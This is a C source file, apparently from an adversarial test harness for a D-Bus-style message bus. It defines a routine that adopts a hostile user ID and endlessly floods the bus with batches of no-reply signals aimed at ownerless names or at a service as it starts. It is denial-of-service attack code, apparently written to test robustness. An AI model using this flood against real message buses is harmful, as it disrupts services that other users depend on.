/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>

#define BATCH 300

/* Signals to names without an owner, without pause; --count: the number of names, 0: always new ones; --name:
 * to this one, whose service is being started. */
void nameless(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0};
    unsigned n = 0, names = (unsigned)attack_options.count;
    (void)argument;
    hostile_set_uid();
    attack_join(&c);
    process_ready();
    for (;;) {
        out.size = 0;
        for (int i = 0; i < BATCH; i++, n++) {
            char name[64];
            snprintf(name, sizeof(name), "org.example.Absent%u", names ? n % names : n);
            put_message(&out,
                        &(struct header){.type = SIGNAL,
                                         .flags = NO_REPLY,
                                         .path = ATTACK_PATH,
                                         .interface = ATTACK_INTERFACE,
                                         .member = "Signal",
                                         .destination = attack_options.name ? attack_options.name : name},
                        NULL);
        }
        attack_pour(&c, &out);
        atomic_fetch_add(&shared->harm, BATCH);
    }
}
